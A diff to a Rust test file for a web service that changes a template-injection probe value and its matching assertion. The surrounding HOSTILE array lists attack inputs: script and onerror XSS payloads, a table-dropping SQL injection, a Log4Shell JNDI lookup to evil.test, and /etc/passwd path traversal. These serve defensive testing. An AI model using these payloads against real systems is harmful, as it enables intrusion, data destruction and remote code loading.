@@ -11,7 +11,7 @@ const HOSTILE: [&str; 14] = [
     "<script>alert(1)</script>",
     "\"><img src=x onerror=alert(1)>",
     "'; DROP TABLE sessions; --",
-    "{{1234*4321}}{% raw %}",
+    "{{1313*1009}}{% raw %}",
     "${jndi:ldap://evil.test/a}",
     "../../../../etc/passwd",
     "%00",
@@ -32,7 +32,7 @@ fn assert_harmless(body: &str, text: &str, what: &str) {
     {
         assert!(!body.contains(insides), "{what} tells of {insides}: {body}");
     }
-    assert!(!body.contains("5332114"), "{what}: a template was run");
+    assert!(!body.contains("1324817"), "{what}: a template was run");
 }
 
 #[actix_web::test]
